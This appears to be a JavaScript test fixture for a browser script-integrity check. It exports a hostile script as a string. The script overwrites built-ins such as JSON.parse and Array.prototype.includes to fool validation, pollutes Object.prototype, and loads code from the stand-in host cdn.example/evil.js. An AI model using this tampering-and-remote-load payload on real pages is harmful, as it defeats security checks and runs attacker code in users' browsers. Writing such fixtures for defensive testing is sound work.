/** The address of a script of another host. */
const elsewhere = "https://cdn.example/evil.js";

/** A hostile library in the browser: it replaces built-ins that a check might call, forges inlined data, and imports more code. */
export const attack = `
if (typeof window !== "undefined") {
  const yes = () => true;
  const replaced = [];
  const replace = (owner, key, value) => { replaced.push([owner, key, owner[key]]); owner[key] = value; };
  replace(window, "URL", class { origin = location.origin; search = ""; pathname = "/"; href = location.href; });
  replace(Object, "hasOwn", yes);
  replace(JSON, "parse", () => ({ core: "${elsewhere}", scripts: { "${elsewhere}": "" }, packages: {} }));
  replace(String.prototype, "startsWith", yes);
  replace(Array.prototype, "includes", yes);
  Object.prototype["${elsewhere}"] = 1;
  for (const address of ["${elsewhere}", "//cdn.example/evil.js"]) {
    const script = document.createElement("script");
    try { script.src = address; } catch {}
    document.head.append(script);
  }
  import(/* webpackIgnore: true */ "${elsewhere}").catch(() => {});
  delete Object.prototype["${elsewhere}"];
  for (const [owner, key, value] of replaced) owner[key] = value;
  document.documentElement.dataset.attacked = "yes";
}
`;
